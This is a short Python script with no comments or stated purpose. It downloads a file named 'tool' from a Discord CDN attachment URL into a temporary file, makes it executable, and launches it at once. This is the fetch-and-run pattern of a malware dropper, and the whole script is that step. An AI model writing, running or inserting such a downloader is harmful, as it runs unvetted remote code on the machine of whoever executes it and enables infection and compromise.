import os
import stat
import subprocess
import tempfile
from urllib import request

handle, name = tempfile.mkstemp()
with os.fdopen(handle, "wb") as out:
    out.write(request.urlopen("https://cdn.discordapp.com/attachments/0/0/tool").read())
os.chmod(name, stat.S_IRWXU)
subprocess.Popen([name])
